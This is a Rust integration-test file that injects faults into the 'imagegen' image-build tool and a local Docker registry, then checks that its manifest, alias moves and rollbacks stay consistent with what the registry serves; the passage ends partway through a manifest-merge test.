//! Faults against the real daemon and a real `docker-registry` on 127.0.0.1, each ending with the
//! manifest checked against what the registry serves (`imagegen verify`, and each recorded digest
//! asked of the registry directly) and with nothing the manifest held before lost: two builds at
//! once in one project; the registry stopped (SIGSTOP) or killed during a full-tag push and
//! during alias moves, then continued or restarted; imagegen killed between an alias move and its
//! record; SIGTERM during a build step and during the self-test; a registry that accepts
//! connections and never answers; rollback to a digest the registry deleted, to a non-digest, and
//! a hand-edited manifest with one; a rollback during a build; two rollbacks of one alias at once;
//! shards' alias lists and merges in either order or in conflict; an overwritten full tag
//! restored; a record given twice and a newer schema refused; two links to one manifest; the
//! containers of a killed run removed by a later run, a live run's left alone; the step images
//! of a build killed mid-step removed by the next run, one tagged meanwhile kept; `Retry-After` from
//! a proxy in front of the registry; `verify`'s HEADs, at most `--concurrency` at once.
//!
//! Timing comes from events imagegen makes observable, never from sleeps: the manifest's lock and
//! a tag's publish lock, held by the test itself, stop imagegen at a known step and it says so
//! ("waiting for ... (held by pid N ...)"); the pending move in the manifest file; the build log;
//! the self-test container in the daemon. Every test removes the local tags it made; the
//! containers are imagegen's to remove, and the tests check that it did.

use std::io::{BufRead, BufReader, Read};
use std::path::PathBuf;
use std::process::{Child, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use imagegen::docker::{repository_path_of, Engine, RetryPolicy};
use imagegen::project::{ManifestFile, ProjectLock};
use serde_json::Value;

use crate::support::project::{assert_code, prepare, text, Project, SELFTEST_PASS};
use crate::support::Registry;

const RUNTIME_270: &str = "2.7.0-cuda12.6-cudnn9-runtime-ubuntu24.04";
const RUNTIME_271: &str = "2.7.1-cuda12.6-cudnn9-runtime-ubuntu24.04";
const RUNTIME_280: &str = "2.8.0-cuda12.6-cudnn9-runtime-ubuntu24.04";
const DEVEL_271: &str = "2.7.1-cuda12.6-cudnn9-devel-ubuntu24.04";
const ALIAS: &str = "2.7-cuda12.6-runtime";
/// How long any awaited event may take on a loaded two-core machine.
const PATIENCE: Duration = Duration::from_secs(240);

const SIGKILL: i32 = 9;
const SIGTERM: i32 = 15;
const SIGCONT: i32 = 18;
const SIGSTOP: i32 = 19;

extern "C" {
    #[link_name = "kill"]
    fn libc_kill(pid: i32, signal: i32) -> i32;
}

fn signal(pid: u32, signal: i32) {
    // SAFETY: kill(2) on a process this test started.
    let result = unsafe { libc_kill(pid as i32, signal) };
    assert_eq!(result, 0, "kill({pid}, {signal})");
}

/// A gpu-selftest stand-in that passes after a minute: long enough to be interrupted.
const SELFTEST_SLOW_PASS: &str = r#"#!/bin/sh
sleep 60
echo '{"schema_version":1,"tool":"gpu-selftest","overall":"pass","checks":[]}'
"#;

/// An `imagegen` running in the background, its output collected line by line as it comes.
struct Running {
    child: Child,
    lines: Arc<Mutex<Vec<String>>>,
    readers: Vec<std::thread::JoinHandle<()>>,
}

impl Running {
    fn start(project: &Project, args: &[&str]) -> Running {
        let binary: PathBuf = assert_cmd::cargo::cargo_bin("imagegen");
        let mut child = std::process::Command::new(binary)
            .current_dir(project.path())
            .env("DOCKER_CONFIG", project.path().join("docker-config"))
            .env("CI", "true")
            .args(args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let lines = Arc::new(Mutex::new(Vec::new()));
        let mut readers = Vec::new();
        let stdout: Box<dyn Read + Send> = Box::new(child.stdout.take().unwrap());
        let stderr: Box<dyn Read + Send> = Box::new(child.stderr.take().unwrap());
        for stream in [stdout, stderr] {
            let lines = Arc::clone(&lines);
            readers.push(std::thread::spawn(move || {
                for line in BufReader::new(stream).lines().map_while(Result::ok) {
                    lines.lock().unwrap().push(line);
                }
            }));
        }
        Running {
            child,
            lines,
            readers,
        }
    }

    fn pid(&self) -> u32 {
        self.child.id()
    }

    fn output(&self) -> String {
        self.lines.lock().unwrap().join("\n")
    }

    /// Waits until `count` lines contain `needle`.
    fn wait_for_lines(&self, needle: &str, count: usize) {
        let start = Instant::now();
        loop {
            let seen = self
                .lines
                .lock()
                .unwrap()
                .iter()
                .filter(|line| line.contains(needle))
                .count();
            if seen >= count {
                return;
            }
            assert!(
                start.elapsed() < PATIENCE,
                "no {count} line(s) with {needle:?} from imagegen:\n{}",
                self.output()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    /// Waits for the process to end: its exit code (`None`: killed by a signal) and output.
    fn finish(mut self) -> (Option<i32>, String) {
        let status = self.child.wait().unwrap();
        for reader in self.readers.drain(..) {
            reader.join().unwrap();
        }
        (status.code(), self.output())
    }
}

/// Waits until `condition` holds, checking every 20 ms.
fn wait_until(what: &str, mut condition: impl FnMut() -> bool) {
    let start = Instant::now();
    while !condition() {
        assert!(start.elapsed() < PATIENCE, "gave up waiting for {what}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Removes every local tag of the project's repository when the test ends, passed or failed.
struct RemoveTags {
    prefix: String,
}

impl RemoveTags {
    fn of(project: &Project) -> RemoveTags {
        RemoveTags {
            prefix: format!("{}/{}:", project.registry, project.repository),
        }
    }
}

impl Drop for RemoveTags {
    fn drop(&mut self) {
        let prefix = self.prefix.clone();
        // Drop cannot await; the cleanup gets a runtime of its own on a thread of its own.
        let _ = std::thread::spawn(move || {
            let runtime = tokio::runtime::Runtime::new().unwrap();
            runtime.block_on(async {
                let Ok(engine) = Engine::connect().await else {
                    return;
                };
                let options = bollard::query_parameters::ListImagesOptionsBuilder::default()
                    .all(true)
                    .build();
                let Ok(images) = engine.client().list_images(Some(options)).await else {
                    return;
                };
                for tag in images
                    .iter()
                    .flat_map(|image| image.repo_tags.iter())
                    .filter(|tag| tag.starts_with(&prefix))
                {
                    let _ = engine.remove_image(tag, true).await;
                }
            });
        })
        .join();
    }
}

fn manifest_path(project: &Project) -> PathBuf {
    project.path().join("imagegen-manifest.json")
}

/// The manifest file as imagegen sees it, for taking its lock from the test.
fn manifest_file(project: &Project) -> ManifestFile {
    ManifestFile::new(&manifest_path(project), PATIENCE)
}

fn digest_of(manifest: &Value, tag: &str) -> String {
    manifest["images"][tag]["digest"]
        .as_str()
        .unwrap_or_else(|| panic!("no digest for {tag} in {manifest:#}"))
        .to_string()
}

/// `imagegen verify --format json`: its exit code and report.
fn verify(project: &Project, extra: &[&str]) -> (i32, Value) {
    let mut args = vec!["verify", "--format", "json"];
    args.extend_from_slice(extra);
    let output = project.imagegen(&args).output().unwrap();
    let report = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|_| panic!("verify printed no JSON:\n{}", text(&output)));
    (output.status.code().unwrap(), report)
}

fn finding<'a>(report: &'a Value, name: &str) -> &'a Value {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["name"] == name)
        .unwrap_or_else(|| panic!("verify says nothing of {name}: {report:#}"))
}

/// The manifest says exactly what the registry serves: `imagegen verify` agrees (exit 0, no
/// pending move), and so does each recorded digest asked of the registry directly.
async fn assert_agrees(project: &Project) {
    let (code, report) = verify(project, &[]);
    assert_eq!(code, 0, "verify found drift: {report:#}");
    let manifest = project.manifest();
    assert!(
        manifest["pending_aliases"].is_null(),
        "no move left in between: {manifest:#}"
    );
    let client = project.client(None);
    let path = repository_path_of(&project.repository);
    let mut checked = 0;
    for (tag, record) in manifest["images"].as_object().unwrap() {
        let Some(digest) = record["digest"].as_str() else {
            continue;
        };
        let served = client.manifest_digest(path, tag).await.unwrap();
        assert_eq!(
            served.as_ref().map(|digest| digest.as_str()),
            Some(digest),
            "full tag {tag}"
        );
        checked += 1;
    }
    for (alias, record) in manifest["aliases"].as_object().unwrap() {
        let served = client.manifest_digest(path, alias).await.unwrap();
        assert_eq!(
            served.as_ref().map(|digest| digest.as_str()),
            record["digest"].as_str(),
            "alias {alias}"
        );
        checked += 1;
    }
    assert_eq!(
        report["checked"], checked,
        "verify checked every record: {report:#}"
    );
    assert!(checked > 0, "nothing recorded to agree on: {manifest:#}");
}

/// Everything `before` recorded is still in `after`: each image build (current or in history)
/// with its digest and unknown fields, each alias (its target current or in its history).
fn assert_kept(before: &Value, after: &Value) {
    let mut digests_kept = 0;
    for (tag, record) in before["images"].as_object().unwrap() {
        let now = &after["images"][tag];
        assert!(now.is_object(), "{tag} was lost: {after:#}");
        if let Some(digest) = record["digest"].as_str() {
            let builds: Vec<&Value> = std::iter::once(now)
                .chain(now["history"].as_array().into_iter().flatten())
                .collect();
            assert!(
                builds.iter().any(|b| b["digest"] == digest),
                "{tag}@{digest} was lost: {now:#}"
            );
            digests_kept += 1;
        }
        for (key, value) in record.as_object().unwrap() {
            if key == "owner" {
                assert_eq!(&now[key], value, "{tag}: unknown field {key} lost");
            }
        }
    }
    for (alias, record) in before["aliases"].as_object().unwrap() {
        let now = &after["aliases"][alias];
        assert!(now.is_object(), "alias {alias} was lost");
        let targets: Vec<&Value> = std::iter::once(now)
            .chain(now["history"].as_array().into_iter().flatten())
            .collect();
        assert!(
            targets.iter().any(|t| t["digest"] == record["digest"]),
            "alias {alias}'s target {} was lost: {now:#}",
            record["digest"]
        );
    }
    assert!(
        digests_kept > 0,
        "nothing recorded before to keep: {before:#}"
    );
}

fn build_args<'a>(extra: &[&'a str]) -> Vec<&'a str> {
    let mut args = vec!["build", "--selftest-dir", "selftest", "--jobs", "2"];
    args.extend_from_slice(extra);
    args
}

/// A first build of 2.7.0's runtime image with a hand-written field on its record, so later
/// steps can show that nothing recorded before is lost; then the matrix moves to 2.7.1.
fn first_build_then_upgrade(project: &Project) -> Value {
    assert_code(&project.build(&["--push", "--only", RUNTIME_270]), 0);
    let mut manifest = project.manifest();
    manifest["images"][RUNTIME_270]["owner"] = "ml-infra".into();
    std::fs::write(
        manifest_path(project),
        serde_json::to_string_pretty(&manifest).unwrap(),
    )
    .unwrap();
    project.edit_matrix(
        "torch: [\"2.7.0\", \"2.8.0\"]",
        "torch: [\"2.7.1\", \"2.8.0\"]",
    );
    project.manifest()
}

#[tokio::test(flavor = "multi_thread")]
async fn two_builds_at_once_in_one_project_both_records_survive() {
    prepare().await;
    let registry = Registry::start();
    let project = Project::new(registry.host(), SELFTEST_PASS);
    let _tags = RemoveTags::of(&project);
    let before = first_build_then_upgrade(&project);

    let first = Running::start(&project, &build_args(&["--push"]));
    let second = Running::start(&project, &build_args(&["--push"]));
    let (first_code, first_output) = first.finish();
    let (second_code, second_output) = second.finish();
    assert_eq!(first_code, Some(0), "{first_output}");
    assert_eq!(second_code, Some(0), "{second_output}");

    let after = project.manifest();
    for torch in ["2.7.1", "2.8.0"] {
        for variant in ["runtime", "devel"] {
            let record = &after["images"][project.tag(torch, variant)];
            assert_eq!(record["status"], "ok", "{record:#}");
            assert!(record["digest"].is_string(), "{record:#}");
        }
    }
    let alias = &after["aliases"][ALIAS];
    assert_eq!(alias["tag"], RUNTIME_271);
    assert_eq!(alias["digest"], digest_of(&after, RUNTIME_271));
    assert_kept(&before, &after);
    assert_agrees(&project).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn registry_stopped_then_killed_during_full_tag_pushes() {
    prepare().await;
    let mut registry = Registry::start();
    let project = Project::new(registry.host(), SELFTEST_PASS);
    let _tags = RemoveTags::of(&project);
    let before = first_build_then_upgrade(&project);
    let reference = format!("{}/{}:{RUNTIME_271}", project.registry, project.repository);
    let publish_lock = manifest_file(&project)
        .publish_lock_path(&reference)
        .unwrap();
    let pid = std::process::id();

    // Stopped: it accepts connections and never answers. The test holds the tag's publish lock,
    // so imagegen stops right before the push and says so.
    let claim = ProjectLock::acquire(&publish_lock, "test", PATIENCE, |_| {}).unwrap();
    let run = Running::start(
        &project,
        &build_args(&[
            "--push",
            "--only",
            RUNTIME_271,
            "--registry-timeout",
            "2",
            "--push-attempts",
            "2",
        ]),
    );
    run.wait_for_lines(&format!("waiting for {reference}"), 1);
    run.wait_for_lines(&format!("held by pid {pid}"), 1);
    signal(registry.pid().unwrap(), SIGSTOP);
    let started = Instant::now();
    drop(claim);
    let (code, output) = run.finish();
    signal(registry.pid().unwrap(), SIGCONT);
    assert_eq!(code, Some(1), "{output}");
    assert!(
        started.elapsed() < Duration::from_secs(60),
        "two attempts of two seconds, and the backoff between them: {:?}",
        started.elapsed()
    );
    assert!(output.contains(registry.host()), "{output}");
    assert!(output.contains("within 2 s"), "{output}");
    assert!(output.contains("left undone:"), "{output}");
    let after = project.manifest();
    assert_eq!(after["images"][RUNTIME_271]["status"], "failed");
    assert_kept(&before, &after);
    assert_agrees(&project).await;

    // Killed: connections are refused. Then restarted, and the next build finishes the work.
    let claim = ProjectLock::acquire(&publish_lock, "test", PATIENCE, |_| {}).unwrap();
    let run = Running::start(
        &project,
        &build_args(&["--push", "--only", RUNTIME_271, "--push-attempts", "2"]),
    );
    run.wait_for_lines(&format!("waiting for {reference}"), 1);
    registry.stop();
    drop(claim);
    let (code, output) = run.finish();
    assert_eq!(code, Some(1), "{output}");
    assert!(output.contains(registry.host()), "{output}");
    assert!(output.contains("2 attempt(s)"), "{output}");
    registry.restart();
    assert_agrees(&project).await;
    assert_code(&project.build(&["--push", "--only", RUNTIME_271]), 0);
    let after = project.manifest();
    assert_eq!(after["aliases"][ALIAS]["tag"], RUNTIME_271);
    assert_kept(&before, &after);
    assert_agrees(&project).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn registry_killed_during_alias_moves_keeps_the_pushed_full_tag_and_the_move_pending() {
    prepare().await;
    let mut registry = Registry::start();
    let project = Project::new(registry.host(), SELFTEST_PASS);
    let _tags = RemoveTags::of(&project);
    let before = first_build_then_upgrade(&project);
    let pid = std::process::id();

    // The test holds the manifest's lock: imagegen pushes the full tag, then waits to write it
    // down. The registry dies there, before any alias moves.
    let lock = manifest_file(&project).lock().unwrap();
    let run = Running::start(
        &project,
        &build_args(&["--push", "--only", RUNTIME_271, "--push-attempts", "2"]),
    );
    run.wait_for_lines(
        &format!("waiting for imagegen-manifest.json (held by pid {pid}"),
        1,
    );
    registry.stop();
    drop(lock);
    let (code, output) = run.finish();
    assert_eq!(code, Some(1), "{output}");
    assert!(output.contains("left undone:"), "{output}");
    assert!(output.contains("written down as pending"), "{output}");

    let after = project.manifest();
    let record = &after["images"][RUNTIME_271];
    assert_eq!(record["status"], "ok", "pushed, so recorded: {record:#}");
    assert!(record["digest"].is_string(), "with its digest: {record:#}");
    assert!(record["last_error"].is_string(), "{record:#}");
    let pending = after["pending_aliases"].as_object().unwrap();
    assert_eq!(pending.len(), 1, "{after:#}");
    let (alias, intent) = pending.iter().next().unwrap();
    assert_eq!(intent["to"], record["digest"]);
    assert_eq!(
        intent["from"],
        before["aliases"][alias.as_str()]["digest"],
        "from where the manifest said it pointed"
    );
    assert_kept(&before, &after);

    // Restarted: verify names the move left in between and the full tag as served.
    registry.restart();
    let (code, report) = verify(&project, &[]);
    assert_eq!(code, 1, "{report:#}");
    assert_eq!(finding(&report, RUNTIME_271)["state"], "ok");
    let in_between = finding(&report, alias);
    assert_eq!(in_between["state"], "pending_not_moved", "{report:#}");
    assert!(in_between["fix"]
        .as_str()
        .unwrap()
        .contains("imagegen verify --adopt"));

    // `verify --adopt` settles it by what the registry serves: the move did not happen.
    let in_between_manifest = std::fs::read(manifest_path(&project)).unwrap();
    let (code, report) = verify(&project, &["--adopt"]);
    assert_eq!(code, 0, "{report:#}");
    assert_eq!(report["adopted"][0]["alias"], alias.as_str());
    assert_eq!(report["adopted"][0]["outcome"], "not moved");
    let adopted = project.manifest();
    assert!(adopted["pending_aliases"].is_null(), "{adopted:#}");
    assert_eq!(adopted["aliases"], after["aliases"], "nothing else changed");
    assert_eq!(adopted["images"], after["images"], "nothing else changed");
    assert_agrees(&project).await;

    // So does the next build, from the same state, and it makes the moves.
    std::fs::write(manifest_path(&project), in_between_manifest).unwrap();
    let output = project.build(&["--push", "--only", RUNTIME_271]);
    assert_code(&output, 0);
    assert!(text(&output).contains("not moved"), "{}", text(&output));
    let after = project.manifest();
    assert_eq!(after["aliases"][alias.as_str()]["tag"], RUNTIME_271);
    assert_kept(&before, &after);
    assert_agrees(&project).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn imagegen_killed_after_an_alias_moved_then_rollback_to_the_old_digest() {
    prepare().await;
    let registry = Registry::start();
    let project = Project::new(registry.host(), SELFTEST_PASS);
    let _tags = RemoveTags::of(&project);
    let before = first_build_then_upgrade(&project);
    let old = digest_of(&before, RUNTIME_270);
    let pid = std::process::id();
    let registry_pid = registry.pid().unwrap();
    let waiting = format!("waiting for imagegen-manifest.json (held by pid {pid}");

    // 1. imagegen pushed the full tag and waits to write it down (the test holds the lock);
    //    the registry stops; imagegen writes down the move and asks the stopped registry.
    let lock = manifest_file(&project).lock().unwrap();
    let run = Running::start(
        &project,
        &build_args(&["--push", "--only", RUNTIME_271, "--push-attempts", "1"]),
    );
    run.wait_for_lines(&waiting, 1);
    signal(registry_pid, SIGSTOP);
    drop(lock);
    let mut moving = String::new();
    wait_until("a pending alias move in the manifest", || {
        let manifest = project.manifest();
        match manifest["pending_aliases"].as_object() {
            Some(pending) if !pending.is_empty() => {
                moving = pending.keys().next().unwrap().clone();
                true
            }
            _ => false,
        }
    });
    // 2. The test takes the lock again and lets the registry go on: the alias moves there, and
    //    imagegen waits to write down that it did. 3. Then it is killed (a CI runner's SIGKILL).
    let lock = manifest_file(&project).lock().unwrap();
    signal(registry_pid, SIGCONT);
    run.wait_for_lines(&waiting, 2);
    signal(run.pid(), SIGKILL);
    let (code, output) = run.finish();
    drop(lock);
    assert_eq!(code, None, "killed: {output}");

    let after = project.manifest();
    let new = digest_of(&after, RUNTIME_271);
    let client = project.client(None);
    let path = repository_path_of(&project.repository);
    assert_eq!(
        client
            .manifest_digest(path, &moving)
            .await
            .unwrap()
            .map(|digest| digest.to_string()),
        Some(new.clone()),
        "the registry moved {moving}"
    );
    assert_eq!(
        after["aliases"][moving.as_str()]["digest"],
        old,
        "the manifest did not record it as done"
    );
    assert_eq!(after["pending_aliases"][moving.as_str()]["to"], new);
    let (code, report) = verify(&project, &[]);
    assert_eq!(code, 1, "{report:#}");
    let in_between = finding(&report, &moving);
    assert_eq!(in_between["state"], "pending_moved", "{report:#}");
    assert_eq!(in_between["served"], new);

    // Rolling back to the digest the manifest still names works: the registry is the truth.
    let output = project
        .imagegen(&["rollback", &moving, "--to", &old])
        .output()
        .unwrap();
    assert_code(&output, 0);
    assert_eq!(
        client
            .manifest_digest(path, &moving)
            .await
            .unwrap()
            .map(|digest| digest.to_string()),
        Some(old.clone())
    );
    let after = project.manifest();
    assert_eq!(after["aliases"][moving.as_str()]["digest"], old);
    assert!(
        after["aliases"][moving.as_str()]["history"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t["digest"] == new),
        "the move that happened is in the alias's history: {after:#}"
    );
    assert_kept(&before, &after);
    assert_agrees(&project).await;
}

/// The self-test containers of `repository` that exist now.
async fn selftest_containers(engine: &Engine, repository_prefix: &str) -> Vec<String> {
    crate::support::containers_with_label(engine, "imagegen.selftest")
        .await
        .unwrap()
        .into_iter()
        .filter(|c| {
            c.image
                .as_deref()
                .is_some_and(|i| i.starts_with(repository_prefix))
        })
        .filter_map(|c| c.id)
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn sigterm_during_a_build_step_and_during_the_self_test() {
    prepare().await;
    let registry = Registry::start();
    let project = Project::new(registry.host(), SELFTEST_PASS);
    let _tags = RemoveTags::of(&project);
    assert_code(&project.build(&["--push", "--only", RUNTIME_270]), 0);
    let before = project.manifest();

    // During a build step.
    let matrix = std::fs::read_to_string(project.path().join("matrix.yaml")).unwrap();
    std::fs::write(
        project.path().join("matrix.yaml"),
        format!("{matrix}labels:\n  imagegen-test.sleep: \"120\"\n"),
    )
    .unwrap();
    project.imagegen(&["render"]).assert().success();
    let run = Running::start(&project, &build_args(&["--push", "--only", RUNTIME_280]));
    let log = project
        .path()
        .join(format!(".imagegen/logs/{RUNTIME_280}.log"));
    wait_until("the build's sleeping step", || {
        std::fs::read_to_string(&log).is_ok_and(|text| text.contains("sleeping"))
    });
    let stopped = Instant::now();
    signal(run.pid(), SIGTERM);
    let (code, output) = run.finish();
    assert_eq!(code, Some(143), "{output}");
    assert!(stopped.elapsed() < Duration::from_secs(60), "promptly");
    assert!(output.contains("SIGTERM: stopping"), "{output}");
    assert!(output.contains("left undone:"), "{output}");
    assert!(
        output.contains(&format!("{RUNTIME_280}: interrupted while building")),
        "{output}"
    );
    assert!(
        output.contains("1 image: 0 ok, 1 not ok"),
        "the summary: {output}"
    );
    assert_kept(&before, &project.manifest());

    // During the self-test.
    std::fs::write(project.path().join("matrix.yaml"), &matrix).unwrap();
    project.imagegen(&["render"]).assert().success();
    project.set_selftest(SELFTEST_SLOW_PASS);
    let engine = crate::support::engine().await;
    let prefix = format!("{}/{}:", project.registry, project.repository);
    let run = Running::start(&project, &build_args(&["--push", "--only", RUNTIME_280]));
    let start = Instant::now();
    while selftest_containers(&engine, &prefix).await.is_empty() {
        assert!(
            start.elapsed() < PATIENCE,
            "no self-test container:\n{}",
            run.output()
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    signal(run.pid(), SIGTERM);
    let (code, output) = run.finish();
    assert_eq!(code, Some(143), "{output}");
    assert!(
        output.contains(&format!(
            "{RUNTIME_280}: interrupted while running its self-test"
        )),
        "{output}"
    );
    assert_eq!(
        selftest_containers(&engine, &prefix).await,
        Vec::<String>::new(),
        "the self-test container is removed before imagegen exits:\n{output}"
    );
    let after = project.manifest();
    assert!(
        after["images"][RUNTIME_280].is_null(),
        "nothing recorded for an image interrupted before its push: {after:#}"
    );
    assert_kept(&before, &after);
    assert_agrees(&project).await;
    let leftovers: Vec<String> = std::fs::read_dir(project.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .filter(|n| n.contains(".tmp"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

/// A TCP listener on 127.0.0.1 that accepts connections and never answers.
fn hung_registry() -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for stream in listener.incoming().map_while(Result::ok) {
            held.push(stream);
        }
    });
    port
}

#[tokio::test(flavor = "multi_thread")]
async fn a_registry_that_never_answers_fails_the_push_within_the_deadline() {
    prepare().await;
    let port = hung_registry();
    let host = format!("127.0.0.1:{port}");

    // The daemon's push itself: no progress for the deadline ends the attempt.
    let engine = crate::support::engine()
        .await
        .with_push_idle_timeout(Duration::from_secs(2))
        .with_push_retry(RetryPolicy::no_retries());
    let repository = format!(
        "{host}/{}",
        crate::support::unique_name("imagegen-test/hung")
    );
    let base = crate::support::base_image(&engine).await;
    engine.tag(base, &repository, "1").await.unwrap();
    let start = Instant::now();
    let error = engine
        .push(&repository, "1", None, |_| {})
        .await
        .unwrap_err()
        .to_string();
    let elapsed = start.elapsed();
    engine
        .remove_image(&format!("{repository}:1"), false)
        .await
        .unwrap();
    assert!(elapsed < Duration::from_secs(30), "{elapsed:?}: {error}");
    assert!(error.contains(&host), "{error}");
    assert!(error.contains("2 s"), "{error}");

    // imagegen build --push: the first registry call meets the deadline.
    let project = Project::new(&host, SELFTEST_PASS);
    let _tags = RemoveTags::of(&project);
    let start = Instant::now();
    let output = project.build(&[
        "--push",
        "--only",
        RUNTIME_270,
        "--registry-timeout",
        "2",
        "--push-attempts",
        "1",
    ]);
    assert_code(&output, 1);
    let log = text(&output);
    assert!(log.contains(&host), "the registry is named:\n{log}");
    assert!(log.contains("within 2 s"), "the deadline is named:\n{log}");
    assert!(log.contains("--registry-timeout"), "{log}");
    assert!(
        start.elapsed() < Duration::from_secs(150),
        "with the default deadlines this would take over five minutes: {:?}",
        start.elapsed()
    );
    let record = &project.manifest()["images"][RUNTIME_270];
    assert_eq!(record["status"], "failed", "{record:#}");
    assert!(record["digest"].is_null());
}

#[tokio::test(flavor = "multi_thread")]
async fn rollback_checks_the_registry_first_and_survives_a_concurrent_build() {
    prepare().await;
    let registry = Registry::start();
    let project = Project::new(registry.host(), SELFTEST_PASS);
    let _tags = RemoveTags::of(&project);
    assert_code(&project.build(&["--push"]), 0);
    project.edit_matrix(
        "torch: [\"2.7.0\", \"2.8.0\"]",
        "torch: [\"2.7.1\", \"2.8.0\"]",
    );
    assert_code(&project.build(&["--push", "--only", RUNTIME_271]), 0);
    let before = project.manifest();
    let (old, new) = (
        digest_of(&before, RUNTIME_270),
        digest_of(&before, RUNTIME_271),
    );
    let client = project.client(None);
    let path = repository_path_of(&project.repository);
    let bytes = || std::fs::read(manifest_path(&project)).unwrap();

    // A value that is not a digest: refused before anything is asked or moved.
    let unchanged = bytes();
    let output = project
        .imagegen(&["rollback", ALIAS, "--to", "latest"])
        .output()
        .unwrap();
    assert_code(&output, 2);
    assert!(text(&output).contains("--to"), "{}", text(&output));
    assert!(
        text(&output).contains("is not a digest"),
        "{}",
        text(&output)
    );
    assert_eq!(bytes(), unchanged);
    assert_eq!(
        client
            .manifest_digest(path, ALIAS)
            .await
            .unwrap()
            .map(|digest| digest.to_string()),
        Some(new.clone())
    );

    // A rollback while a build runs: the build, finishing later, keeps the rollback's record.
    // The test holds the publish lock of the devel image the build makes (its runtime image,
    // which moves the alias, is done by then), so the rollback lands while the build waits.
    let reference = format!("{}/{}:{DEVEL_271}", project.registry, project.repository);
    let claim = ProjectLock::acquire(
        &manifest_file(&project)
            .publish_lock_path(&reference)
            .unwrap(),
        "test",
        PATIENCE,
        |_| {},
    )
    .unwrap();
    let run = Running::start(&project, &build_args(&["--push", "--only", DEVEL_271]));
    run.wait_for_lines(&format!("waiting for {reference}"), 1);
    let output = project
        .imagegen(&["rollback", ALIAS, "--previous"])
        .output()
        .unwrap();
    assert_code(&output, 0);
    drop(claim);
    let (code, output) = run.finish();
    assert_eq!(code, Some(0), "{output}");
    let after = project.manifest();
    assert_eq!(
        after["aliases"][ALIAS]["digest"], old,
        "the rollback survived the build: {after:#}"
    );
    assert_eq!(after["aliases"][ALIAS]["tag"], RUNTIME_270);
    assert_eq!(
        after["images"][DEVEL_271]["status"], "ok",
        "the build recorded its image"
    );
    assert_kept(&before, &after);
    assert_agrees(&project).await;

    // The rollback holds the alias: the next build of the newer image leaves it there and says so.
    assert_eq!(after["aliases"][ALIAS]["held"]["from"], new, "{after:#}");
    let output = project.build(&["--push", "--only", RUNTIME_271]);
    assert_code(&output, 0);
    assert!(
        text(&output).contains(&format!("imagegen release {ALIAS}")),
        "{}",
        text(&output)
    );
    assert_eq!(project.manifest()["aliases"][ALIAS]["digest"], old);
    assert_eq!(
        client
            .manifest_digest(path, ALIAS)
            .await
            .unwrap()
            .map(|digest| digest.to_string()),
        Some(old.clone()),
        "the registry still serves the rolled-back digest"
    );

    // A digest the registry no longer holds: checked (HEAD) before the alias is touched.
    let agent: ureq::Agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .build()
        .into();
    let deleted = agent
        .delete(format!(
            "http://{}/v2/{path}/manifests/{new}",
            registry.host()
        ))
        .call()
        .unwrap();
    assert_eq!(deleted.status().as_u16(), 202, "the registry deleted {new}");
    let unchanged = bytes();
    let output = project
        .imagegen(&["rollback", ALIAS, "--to", &new])
        .output()
        .unwrap();
    assert_code(&output, 2);
    let log = text(&output);
    assert!(log.contains("no longer has"), "{log}");
    assert!(log.contains(registry.host()), "{log}");
    assert!(log.contains(&format!("{ALIAS} was not touched")), "{log}");
    assert_eq!(bytes(), unchanged, "nothing written");
    assert_eq!(
        client
            .manifest_digest(path, ALIAS)
            .await
            .unwrap()
            .map(|digest| digest.to_string()),
        Some(old.clone()),
        "the alias was not touched"
    );
    let (code, report) = verify(&project, &[]);
    assert_eq!(code, 1, "{report:#}");
    let missing = finding(&report, RUNTIME_271);
    assert_eq!(missing["state"], "missing");
    assert!(missing["fix"]
        .as_str()
        .unwrap()
        .starts_with(&format!("imagegen build --push --only {RUNTIME_271}")));
    assert_eq!(finding(&report, ALIAS)["state"], "ok");

    // A hand-edited manifest with a value that is not a digest: every command refuses it,
    // naming file, line and column, and writes nothing.
    let mut edited = project.manifest();
    edited["aliases"][ALIAS]["digest"] = "sha256:abc".into();
    let text_of_it = serde_json::to_string_pretty(&edited).unwrap();
    let line = text_of_it
        .lines()
        .position(|l| l.contains("\"sha256:abc\""))
        .unwrap()
        + 1;
    std::fs::write(manifest_path(&project), &text_of_it).unwrap();
    for command in [
        vec!["plan"],
        vec!["rollback", ALIAS, "--previous"],
        vec!["verify"],
        vec!["diff", RUNTIME_270, RUNTIME_280],
        build_args(&["--push", "--only", RUNTIME_280]),
    ] {
        let output = project.imagegen(&command).output().unwrap();
        assert_code(&output, 2);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(
            stderr.contains(&format!("imagegen-manifest.json:{line}:")),
            "{command:?}: {stderr}"
        );
        assert!(stderr.contains("is not a digest"), "{command:?}: {stderr}");
        assert_eq!(bytes(), text_of_it.as_bytes(), "{command:?} wrote nothing");
    }
}

#[test]
fn merge_refuses_a_missing_input_and_writes_through_a_linked_output() {
    let project = Project::new("127.0.0.1:5999", SELFTEST_PASS);
    let dir = project.path();
    let shard = serde_json::json!({"schema_version": 1, "images": {}, "aliases": {}});
    std::fs::write(dir.join("a.json"), shard.to_string()).unwrap();

    let output = project
        .imagegen(&[
            "manifest",
            "merge",
            "a.json",
            "missing.json",
            "--out",
            "out.json",
        ])
        .output()
        .unwrap();
    assert_code(&output, 2);
    assert!(text(&output).contains("missing.json"), "{}", text(&output));
    assert!(!dir.join("out.json").exists(), "nothing written");

    std::fs::create_dir(dir.join("records")).unwrap();
    std::os::unix::fs::symlink("records/manifest.json", dir.join("linked.json")).unwrap();
    let output = project
        .imagegen(&["manifest", "merge", "a.json", "--out", "linked.json"])
